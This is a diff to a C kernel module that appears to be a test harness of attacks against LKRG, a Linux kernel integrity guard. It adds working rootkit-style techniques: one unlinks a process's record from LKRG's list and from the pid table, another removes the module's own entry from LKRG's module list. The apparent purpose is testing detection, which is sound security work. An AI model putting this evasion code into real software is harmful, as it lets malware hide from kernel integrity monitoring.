@@ -808,6 +808,11 @@ static int hide_record(struct task_struct *task, size_t field)
 	return -ESRCH;
 }
 
+static int hide_record_and_pid(struct task_struct *task, size_t field)
+{
+	return hide_record(task, field) ?: hide_from_pid(task, field);
+}
+
 /* As if the record were that of init_task, which is in no list */
 static int give_record_away(struct task_struct *task, size_t field)
 {
@@ -1076,11 +1081,42 @@ static int hide_module_state(struct task_struct *task, size_t field)
 	return 0;
 }
 
+static ulong module_inventory;
+module_param(module_inventory, ulong, 0400);
+MODULE_PARM_DESC(module_inventory, "Address of that list");
+
+static struct list_head *entry, *entry_before;
+
+/* What is in an entry only lkrg knows: the module is not far behind its node */
+static int hide_module_entry(struct task_struct *task, size_t field)
+{
+	struct list_head *const list = (void *)module_inventory;
+	struct list_head *node;
+	size_t i;
+
+	if (!list)
+		return -ENOENT;
+	list_for_each(node, list) {
+		for (i = 2; i < 8; i++) {
+			if (((ulong *)node)[i] != (ulong)THIS_MODULE)
+				continue;
+			entry = node;
+			entry_before = node->prev;
+			list_del_init(node);
+			return 0;
+		}
+	}
+	return -ESRCH;
+}
+
 static int show_module(struct task_struct *task, size_t field)
 {
 	if (neighbour)
 		list_add_rcu(&THIS_MODULE->list, neighbour);
 	neighbour = NULL;
+	if (entry)
+		list_add(entry, entry_before);
+	entry = NULL;
 	THIS_MODULE->state = MODULE_STATE_LIVE;
 	return 0;
 }
@@ -1181,6 +1217,8 @@ static const struct attack attacks[] = {
 	ATTACK("hide-pid", hide_from_pid, "its pid leads nowhere"),
 	ATTACK("hide-idr", hide_from_idr, "its pid is not in the table"),
 	ATTACK("hide-record", hide_record, "its record off the list of lkrg"),
+	ATTACK("hide-record-pid", hide_record_and_pid,
+	       "and itself out of the pid table"),
 	ATTACK("hide-owner", give_record_away, "its record seems to be that of init_task"),
 	ATTACK("init-fsuid", overwrite_first, "the fsuid of process 1 becomes 1000"),
 	ATTACK("init-restore", restore_first, "and 0 again"),
@@ -1217,6 +1255,8 @@ static const struct attack attacks[] = {
 	ATTACK("module-hide", hide_module, "a module off the list of modules"),
 	ATTACK("module-hide-state", hide_module_state,
 	       "a module that seems not to be formed"),
+	ATTACK("module-hide-entry", hide_module_entry,
+	       "a module off the list of lkrg"),
 	ATTACK("module-show", show_module, "a module as it was"),
 };
 
